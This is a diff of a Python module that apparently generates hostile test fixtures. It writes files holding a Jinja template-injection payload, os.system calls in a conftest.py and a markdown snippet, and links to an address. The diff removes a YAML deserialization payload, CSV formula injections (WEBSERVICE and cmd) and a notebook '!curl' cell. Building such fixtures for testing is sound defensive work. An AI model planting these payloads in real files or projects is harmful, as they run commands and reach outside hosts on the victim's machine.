@@ -102,7 +102,6 @@ class Payload:
 
 
 def write_hostile_files(folder, marker):
-    """Write the files; return how many there are."""
     texts = {}
     for number, address in enumerate(ADDRESSES):
         texts.update(_texts_with(address, number))
@@ -129,26 +128,12 @@ def write_hostile_files(folder, marker):
 
 
 def _texts_with(address, number):
-    """Texts by file name that name an address."""
     texts = {}
     for name, form, bodies in TEXT_FORMS:
         for n, body in enumerate(bodies):
             file_name = name.format(f"{n}-{number}")
             texts[file_name] = form.format(body.format(address))
     texts[f"page-{number}.md"] = f"# Tower\n\n![it]({address}) [a]({address})\n"
-    texts[f"schema-{number}.json"] = json.dumps({"$ref": address, "text": "A tower."})
-    texts[f"rows-{number}.jsonl"] = json.dumps({"text": "A tower.", "id": address})
-    texts[f"rows-{number}.csv"] = f'text,id\n"=WEBSERVICE(""{address}"")",1\n'
-    output = {
-        "output_type": "display_data",
-        "data": {"text/html": HTML_TAGS[1].format(address)},
-    }
-    cell = {
-        "cell_type": "code",
-        "source": [f"!curl {address}"],
-        "outputs": [output],
-    }
-    texts[f"notebook-{number}.ipynb"] = json.dumps({"nbformat": 4, "cells": [cell]})
     return texts
 
 
@@ -233,8 +218,6 @@ def _write_code(folder, marker):
         f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{{% set a = '{command}' %}}"
     )
     texts = {
-        "code.yaml": f"a: !!python/object/apply:os.system ['{command}']\n",
-        "code.csv": f"text,id\n\"=cmd|' /C {command}'!A0\",1\n",
         "code.md": f"```python\nimport os; os.system('{command}')\n```\n",
         "code.txt": template,
         "conftest.py": f"import os; os.system({command!r})\n",
